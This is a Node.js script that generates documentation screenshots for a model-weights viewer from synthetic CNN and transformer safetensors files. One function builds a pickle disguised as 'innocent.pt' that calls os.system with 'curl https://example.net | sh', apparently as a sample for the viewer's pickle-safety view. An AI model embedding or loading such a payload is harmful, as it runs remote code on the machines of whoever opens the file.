// SPDX-License-Identifier: Apache-2.0
// The pictures of docs/view.md: `node tests/view/pictures.mjs docs/pictures`, after `ballast` was built. The models are made here; nothing is trained.
import fs from 'node:fs';
import path from 'node:path';
import { withPalette } from './palette.mjs';
import { launch, put, safetensors, serve, settled, visit, weights } from './browser.mjs';

const folder = process.argv[2];
if (!folder) throw new Error('usage: pictures.mjs FOLDER');
fs.mkdirSync(folder, { recursive: true });

const half = (values) => Uint16Array.from(new Uint32Array(values.buffer), (bits) => bits >>> 16);

/** A matrix with what trained ones have: a few strong columns, some rows nearly silent, and a pattern of low rank. */
function trained(rows, cols, seed, drift = 0) {
  const values = weights(rows * cols, seed, 0.02);
  const [left, right, noise] = [weights(rows, seed + 1, 1), weights(cols, seed + 2, 1), weights(cols, seed + 3, 1)];
  for (let r = 0; r < rows; ++r) for (let c = 0; c < cols; ++c) {
    const loud = c % 97 === seed % 97 ? 4 : 1;
    values[r * cols + c] = values[r * cols + c] * loud * (0.4 + Math.abs(left[r])) + 0.012 * left[r] * right[c] + drift * 0.01 * noise[c] * left[r];
  }
  return values;
}

function transformer(layers, width, drift) {
  const add = (name, rows, cols, seed, amount) => [name, 'BF16', [rows, cols], half(trained(rows, cols, seed, amount))];
  const tensors = [add('model.embed_tokens.weight', 8 * width, width, 5, 0)];
  for (let i = 0; i < layers; ++i) {
    const much = drift * (0.3 + (1.4 * i) / layers);
    for (const [k, part] of ['q_proj', 'k_proj', 'v_proj', 'o_proj'].entries()) tensors.push(add(`model.layers.${i}.self_attn.${part}.weight`, part[0] === 'k' || part[0] === 'v' ? width / 4 : width, width, 100 * i + 10 * k + 11, much * [1, 0.8, 0.5, 0.35][k]));
    for (const [k, part] of ['gate_proj', 'up_proj'].entries()) tensors.push(add(`model.layers.${i}.mlp.${part}.weight`, 3 * width, width, 100 * i + 10 * k + 55, much * [0.22, 0.15][k]));
    tensors.push(add(`model.layers.${i}.mlp.down_proj.weight`, width, 3 * width, 100 * i + 77, much * 0.1));
    tensors.push([`model.layers.${i}.input_layernorm.weight`, 'F32', [width], weights(width, i + 7, 0.1).map((v) => 1 + v)]);
  }
  tensors.push(add('lm_head.weight', 8 * width, width, 6, 0));
  return safetensors(tensors, { format: 'pt' });
}

function network() {
  const shapes = [['stem.conv.weight', [32, 3, 7, 7]], ['stage1.0.conv1.weight', [64, 32, 3, 3]], ['stage1.0.conv2.weight', [64, 64, 3, 3]], ['stage2.0.conv1.weight', [128, 64, 3, 3]], ['stage2.0.conv2.weight', [128, 128, 3, 3]],
    ['stage2.0.shortcut.weight', [128, 64, 1, 1]], ['stage3.0.conv1.weight', [256, 128, 3, 3]], ['stage3.0.conv2.weight', [256, 256, 3, 3]], ['stage3.0.shortcut.weight', [256, 128, 1, 1]], ['head.weight', [1000, 256]], ['head.bias', [1000]]];
  return safetensors(shapes.map(([name, shape], i) => [name, 'F32', shape, trained(shape[0], shape.reduce((a, b) => a * b, 1) / shape[0], i + 3)]), { epoch: '12', accuracy: '0.934' });
}

/** A pickle that would call os.system, as GLOBAL and REDUCE spell it, after a harmless dict. */
const hostile = () => Buffer.concat([Buffer.from('\x80\x02}q\x00(X\x05\x00\x00\x00epochq\x01K\x0cX\x04\x00\x00\x00noteq\x02cposix\nsystem\nq\x03X\x1d\x00\x00\x00curl https://example.net | shq\x04\x85q\x05Rq\x06u.', 'latin1')]);

const browser = await launch();

async function picture(name, files, hash, prepare = async () => {}, options = {}) {
  const server = await serve(...files);
  const { page, close } = await visit(browser, server.url, { viewport: { width: 1240, height: 720 }, ...options }, hash);
  await prepare(page);
  await settled(page);
  const target = path.join(folder, `${name}.png`);
  fs.writeFileSync(target, withPalette(await page.screenshot()));
  await close();
  await server.end();
  const { size } = fs.statSync(target);
  console.log(`${target}: ${size} bytes`);
  if (size > 150_000) process.exitCode = 1;
}

const before = put('epoch-1.safetensors', transformer(12, 256, 0));
const after = put('epoch-2.safetensors', transformer(12, 256, 1));
await picture('view-cnn', [put('resnet-small.safetensors', network())], '#/f0/overview');
await picture('view-transformer', [before], '#/f0/t25');
await picture('view-diff', [before, after], '#/changes/t10', async () => {}, { viewport: { width: 1240, height: 900 } });
await picture('view-pickle', [put('innocent.pt', hostile())], '#/f0/pickle');
await browser.close();
